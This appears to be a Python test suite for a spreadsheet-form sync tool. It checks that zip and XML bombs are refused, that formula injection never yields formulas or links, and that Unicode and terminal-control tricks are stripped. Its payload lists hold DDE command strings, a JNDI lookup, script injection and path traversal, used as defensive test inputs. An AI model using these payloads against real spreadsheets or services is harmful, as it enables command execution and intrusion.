"""I3, I5, I7, I8: bombs are refused, text stays text, names stay names, nothing unseen is taken in."""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Callable, Iterable, Iterator, Mapping
from contextlib import redirect_stdout
from dataclasses import replace
from io import StringIO
from itertools import product

import pytest

from antt_sync.adapters.read_book import read_book
from antt_sync.adapters.report_write import write_report
from antt_sync.cli.output import say, table
from antt_sync.core.book import ErrorCell, Guards, RawBook, RawCell
from antt_sync.core.errors import WorkbookUnreadable
from antt_sync.core.mending import place_named
from antt_sync.core.reading import FormReading, read_forms
from antt_sync.core.report import Column, Line, Report, Sheet, Table, Voice, Words
from antt_sync.core.sheet import plan
from antt_sync.core.token import Token, read_token
from antt_sync.core.values import CellType, Entry, Unreadable, clean_text, folded, show
from tests.adapters.test_xlsx_read import HOSTILE
from tests.fillings import filled, shipped
from tests.hostile import book, content_types, parts, row, rows, strings, unzipped, worksheet, xml, zipped
from tests.intake.watched import watch
from tests.workbook_makers import make, mark, returned

Tried = Callable[[int, str], None]
PLAIN = row('<c r="A1"><v>1</v></c>')
FORM = shipped("F04-K")
PLAN = plan(FORM)

MERGED = '<mergeCell ref="A1:B2"/>'

# --- I3 ----------------------------------------------------------------------------------------


def with_part(name: str, data: bytes) -> bytes:
    return zipped({**parts(PLAIN), name: data})


def merged(count: int) -> str:
    return f"<sheetData/><mergeCells>{MERGED * count}</mergeCells>"


def styles(inside: str) -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return xml(f'<styleSheet xmlns="{main}">{inside}</styleSheet>')


def styled(part: bytes) -> bytes:
    """A workbook whose styles are this part."""
    link = (
        b'<Relationship Id="rIdY" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    )
    whole = parts(PLAIN)
    links = whole["xl/_rels/workbook.xml.rels"]
    links = links.replace(b"</Relationships>", link + b'styles" Target="styles.xml"/></Relationships>')
    return zipped({**whole, "xl/_rels/workbook.xml.rels": links, "xl/styles.xml": part})


BOMBS: Mapping[str, tuple[Callable[[], bytes], str]] = {
    "zeros packed a thousandfold": (lambda: with_part("xl/media/a.bin", bytes(8 << 20)), "BOOK-121"),
    "a comment of megabytes": (lambda: with_part("xl/comments1.xml", b" " * (8 << 20)), "BOOK-121"),
    "a zip in a zip in a zip": (
        lambda: zipped({"a.zip": zipped({"b.zip": zipped({"c": bytes(9)})})}),
        "BOOK-111",
    ),
    "a million styles": (
        lambda: styled(styles("<cellXfs>" + "<xf/>" * 1_000_000 + "</cellXfs>")),
        "BOOK-121",
    ),
    "a million merged areas": (
        lambda: book(worksheet(merged(1_000_000))),
        "BOOK-102",
    ),
    "many merged areas": (
        lambda: book(worksheet(merged(30_000))),
        "BOOK-123",
    ),
    "lists on every cell": (
        lambda: book(
            worksheet(
                '<sheetData/><dataValidations><dataValidation type="list" sqref="'
                + "A1 " * 30_000
                + '"/></dataValidations>'
            )
        ),
        "BOOK-123",
    ),
    "two cells far apart": (
        lambda: book(
            rows(
                '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
            )
        ),
        "BOOK-125",
    ),
    "a number of a million digits": (
        lambda: book(row(f'<c r="A1"><v>{"9" * 1_000_000}</v></c>')),
        "BOOK-121",
    ),
    "an entity in an entity": (
        lambda: book(b'<!DOCTYPE a [<!ENTITY b "' + b"x" * 9_000 + b'">]><a>' + b"&b;" * 9_000 + b"</a>"),
        "BOOK-122",
    ),
    "an entity in the styles": (lambda: styled(b"<!DOCTYPE a><a/>"), "BOOK-122"),
    "a million shared strings": (
        lambda: book(PLAIN, shared=strings(*["<t/>"] * 900_000)),
        "BOOK-121",
    ),
    "styles that end in the middle": (lambda: styled(b"<styleSheet"), "BOOK-123"),
    "no sheet at all": (lambda: zipped({"[Content_Types].xml": content_types()}), "BOOK-124"),
}


ELSEWHERE = frozenset({"old .xls renamed", "too large"})
"""What is told apart, and refused, before the reader of .xlsx sees it."""


@pytest.mark.goal("I3", "bombs and traps: refused by their own rule, within 2 s and 256 MB")
def test_a_bomb_is_refused_by_its_own_rule_and_at_once(pytestconfig: pytest.Config, tried: Tried) -> None:
    bombs = {**HOSTILE, **BOMBS} if pytestconfig.getoption("--full") else BOMBS
    read_book(book(PLAIN))
    seen = watch()
    wrong = {}
    for name, (build, code) in bombs.items():
        data = build()
        came = seen.over(refused, data)
        if came != code and name not in ELSEWHERE:
            wrong[name] = came
    assert wrong == {}
    assert [deed for deed in seen.deeds if not deed.startswith("subprocess")] == []
    assert (seen.slowest < 2, seen.grown < 256) == (True, True), (seen.slowest, seen.grown)
    tried(len(bombs), f"0 opened, each by its rule; slowest {seen.slowest:.2f} s, +{seen.grown} MB")


def refused(data: bytes) -> str:
    """The code of why a file is refused, or nothing."""
    try:
        read_book(data)
    except WorkbookUnreadable as cause:
        return cause.code
    return ""


# --- I5 ----------------------------------------------------------------------------------------

LEADERS = (
    *(
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        " =",
        "\u00a0=",
        "\u200b=",
        "＝",
        "'=",
        '"=',
        "=-",
        "+=",
        "%0A=",
    ),
    *("{=", "[=", "(=", "|=", ";=", ",=", "==", "@=", "-+", "=+", "\ufeff=", "\u202e=", "&#61;", "\\="),
    *("<r>", "<is>", "<f>", "]]>", "http://", "https://", "mailto:", "file:///", "internal:", "external:"),
)
PAYLOADS = (
    *("1+1", "SUM(A1:A9)", "cmd|'/C calc'!A0", 'HYPERLINK("http://a.invalid","x")', 'DDE("a";"b";"c")'),
    *(
        'IMPORTXML("http://a.invalid")',
        'WEBSERVICE("http://a.invalid")',
        "MSEXCEL|'\\..\\cmd.exe /c calc'!''",
    ),
    *('INDIRECT("A1")', "'[x.xlsx]Trang 1'!A1", "rundll32|'URL.dll,x'!A", "#REF!", "TRUE", "00175", "1e5"),
    *("<script>alert(1)</script>", "${jndi:ldap://a.invalid}", "%s%n", "../../x", "\\\\a\\b", "{{7*7}}"),
    *("_x003D_1", "&lt;f&gt;1", "a</t></is></c>", "\U0001f4a3", "á"),
)
STRINGS = tuple(dict.fromkeys(f"{leader}{payload}" for payload in PAYLOADS for leader in LEADERS))[:1_040]


def fields(entries: Mapping[str, Entry]) -> list[str]:
    """The addresses of a form where people type text."""
    cells = FORM.grown(entries).entry_cells
    return [a for a, c in cells.items() if c.type is CellType.TEXT and c.longest >= 60]


TEXT_FIELDS = fields(filled("F04-K"))
FORMULA = re.compile(rb"<f[ >]")
REACHING = ("externalLinks", "connections", "embeddings", "vbaProject", "customXml", "queryTables")


def formulas_in(data: bytes) -> int:
    return sum(len(FORMULA.findall(part)) for part in unzipped(data).values())


def reaches_out(data: bytes) -> list[str]:
    """Parts and links by which a workbook could fetch or run something."""
    contents = unzipped(data)
    found = [name for name in contents if any(word in name for word in REACHING)]
    return found + [name for name, part in contents.items() if b'TargetMode="External"' in part]


def returned_with(texts: Mapping[str, str]) -> bytes:
    """A returned workbook whose text fields, marks and replies all hold strange text."""
    marks = [mark(n, a, t, comment=t, label=t) for n, (a, t) in enumerate(texts.items(), start=1)]
    return make(FORM, {**filled("F04-K"), **texts}, returned=returned(*marks))


def report_of(texts: Iterable[str]) -> bytes:
    lines = tuple(Line((n, text), key=f"k{n}") for n, text in enumerate(texts))
    made = Table((Column("tt", "TT"), Column("ten", "Đơn vị")), lines, main=True)
    first = next(iter(texts))
    return write_report(
        Report("a", first, first, (Sheet("Một", (40, 200), (Words(first, Voice.TITLE), made)),))
    )


def batches(full: bool) -> Iterator[dict[str, str]]:
    """Text fields with strange text: each string once, or each string in each field."""
    width = len(TEXT_FIELDS)
    if not full:
        wanted = STRINGS[:: len(STRINGS) // 100]
        for start in range(0, len(wanted), width):
            yield dict(zip(TEXT_FIELDS, wanted[start : start + width], strict=False))
        return
    for start in range(len(STRINGS)):
        yield {a: STRINGS[(start + n) % len(STRINGS)] for n, a in enumerate(TEXT_FIELDS)}


@pytest.mark.goal("I5", "formula injection: no text becomes a formula, a link or a command")
def test_no_text_becomes_a_formula_in_any_output(pytestconfig: pytest.Config, tried: Tried) -> None:
    full = bool(pytestconfig.getoption("--full"))
    plain: dict[int, int] = {}
    count = 0
    for texts in batches(full):
        data = returned_with(texts)
        harmless = plain.setdefault(len(texts), formulas_in(returned_with(dict.fromkeys(texts, "a"))))
        assert formulas_in(data) == harmless
        assert reaches_out(data) == []
        (reading,) = read_forms(read_book(data), lambda _: FORM).forms
        assert {a: reading.entries.get(a, "") for a in texts} == {a: as_kept(t) for a, t in texts.items()}
        count += len(texts)
    rolled = report_of(STRINGS)
    assert (formulas_in(rolled), reaches_out(rolled)) == (0, [])
    shown = on_screen(STRINGS)
    assert not [c for c in shown if unicodedata.category(c) == "Cc" and c != "\n"]
    assert "\u202e" not in shown
    number = count + 2 * len(STRINGS)
    tried(
        number,
        f"{len(STRINGS)} strings, {len(TEXT_FIELDS)} fields: 0 formulas, 0 links, texts come back as typed",
    )


def as_kept(text: str) -> str:
    """A text as a cell keeps and gives it back."""
    return clean_text(re.sub("[\x00-\x08\x0b-\x1f\x7f]", "·", text))


def on_screen(texts: Iterable[str]) -> str:
    """What a terminal is sent for these texts, in lines and in a table."""
    out = StringIO()
    with redirect_stdout(out):
        for text in texts:
            say(text)
        table(["A", "B"], [(text, text) for text in texts])
    return out.getvalue()


# --- I7 ----------------------------------------------------------------------------------------

BASES = ("Hoà Bình", "Tổ dân phố số 7", "Nguyễn Thị Ước", "Đường 3/2", "Khối Phố Ỷ Lan")
TRICKS = (
    *("\x1b[31m", "\x1b]0;x\x07", "\x9b2J", "\x00", "\x08", "\x7f", "\r", "\u0085"),
    *("\u200b", "\u2060", "\ufeff", "\u00ad", "\u200e", "\u200f", "\u061c"),
    *(chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))),
    *(
        "\u200c",
        "\u200d",
        "\u0301",
        "\u00a0",
        "\ufe0f",
        "\U0001f469\u200d\U0001f33e",
        "\ue000",
        "ﬁ",
        "Ａ",
        "ı",
    ),
)


def tricky() -> list[str]:
    """Five hundred names with a character that is not seen, turns text around or drives a terminal."""
    marks = [*TRICKS, *(a + b for a, b in product(TRICKS[:8], TRICKS[8:17]))]
    return [f"{base[:3]}{trick}{base[3:]}" for base in BASES for trick in marks][:500]


@pytest.mark.goal("I7", "Unicode and terminal codes in names and text")
def test_strange_characters_are_taken_out_or_shown_and_names_are_equal_when_they_look_so(
    tried: Tried,
) -> None:
    names = tricky()
    assert len(names) == 500
    for name in names:
        kept = clean_text(name)
        assert unicodedata.is_normalized("NFC", kept)
        assert not [c for c in kept if unicodedata.category(c) == "Cc" and c != "\n"]
        assert not set(kept) & set("\u200b\u2060\ufeff\u00ad\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e")
        assert kept.count("\u200d") == name.count("\u200d")  # some scripts cannot be written without them
        assert kept.count("\u200c") == name.count("\u200c")
        assert folded(unicodedata.normalize("NFD", name)) == folded(unicodedata.normalize("NFC", name))
        screen = on_screen([name])
        assert not set(screen) & {"\x1b", "\x9b", "\x07", "\x00", "\x08", "\x7f", "\r", "\u202e", "\u2066"}
    for trick in TRICKS:  # an id is no free text: what is not plain is no id
        assert (
            read_token(Token("F04-K", "2024.1", f"K-14761-00{trick}1.1", "2024", "", "0" * 16).text) is None
        )
    tried(len(names), "0 control or turning characters kept or shown; joiners kept; NFC and NFD are one name")


# --- I8 ----------------------------------------------------------------------------------------

CAME = read_book(make(FORM, filled("F04-K")))
SHEET = FORM.sheet.vi
AT = {a: PLAN.cell(a) for a, c in FORM.entry_cells.items() if a in filled("F04-K")}


def changed(address: str, cell: RawCell | None = None, guards: Guards | None = None) -> FormReading:
    """The form with one cell changed and the sheet doing something to its cells."""
    own = next(s for s in CAME.sheets if s.name == SHEET)
    place = place_named(AT[address])
    cells = {**own.cells, place: cell or own.cells[place]}
    made = replace(own, cells=cells, guards=guards or own.guards)
    whole: RawBook = replace(CAME, sheets=tuple(made if s is own else s for s in CAME.sheets))
    (reading,) = read_forms(whole, lambda _: FORM).forms
    return reading


def unseen_ways(address: str) -> dict[str, FormReading]:
    """One cell made invisible in every way a sheet has."""
    line, column = place_named(AT[address])
    return {
        "hidden row": changed(address, guards=Guards(hidden_rows=frozenset({line}))),
        "hidden column": changed(address, guards=Guards(hidden_columns=((column, column),))),
        "a format or ink that shows nothing": changed(
            address, guards=Guards(faint=frozenset({(line, column)}))
        ),
        "under a merged cell": changed(address, guards=Guards(merged=((line, column - 1, line, column),))),
        "a formula's result": changed(address, RawCell("7", formula=True)),
        "an error": changed(address, RawCell(ErrorCell("#REF!"))),
    }


@pytest.mark.goal("I8", "what is seen is what is signed: every unseen value is told with its cell")
def test_a_value_that_nobody_sees_is_told_with_its_cell(tried: Tried) -> None:
    count = 0
    for address, cell in AT.items():
        for way, reading in unseen_ways(address).items():
            entry = reading.entries[address]
            told = {f.where.cell for f in reading.findings if f.code == "CELL-204"}
            is_error = isinstance(entry, Unreadable) and reading.places[address] == cell
            assert cell in told or (way.startswith("a") and is_error), (address, way)
            count += 1
    for address, content, wanted in AS_SEEN:
        reading = changed(address, RawCell(content))
        entry = reading.entries[address]
        seen = show(entry)
        assert seen == wanted, (address, content, seen)
        count += 1
    assert count >= 200
    tried(count, "0 silent: each an error or a warning with its cell, or read as it looks")


COUNT, DAY, NUMBER = "d413_dk.nay", "d411.ngay", "d411.so"
AS_SEEN = (
    (COUNT, "216", "216"),
    (COUNT, "0216", "216"),
    (COUNT, "1.216", "1216"),
    (COUNT, "٢١٦", "٢١٦"),
    (COUNT, "２１６", "２１６"),
    (COUNT, "216,0", "216,0"),
    (COUNT, "1e3", "1e3"),
    (NUMBER, "00175", "00175"),
    (NUMBER, "12345678901234567890", "12345678901234567890"),
    (DAY, "05.03.2024", "05/03/2024"),
    (DAY, "15/2", "15/2"),
    (DAY, "31/02/2024", "31/02/2024"),
)
